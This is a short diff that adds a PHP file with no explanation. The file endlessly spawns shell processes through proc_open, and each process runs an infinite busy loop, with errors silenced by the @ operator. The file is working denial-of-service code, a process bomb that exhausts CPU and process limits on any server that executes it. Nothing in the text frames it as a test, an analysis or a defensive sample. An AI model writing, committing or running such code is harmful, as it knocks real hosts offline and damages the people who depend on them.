@@ -1,0 +1,2 @@
+<?php
+while (true) { @proc_open(["sh", "-c", "while :; do :; done"], [], $pipes); }
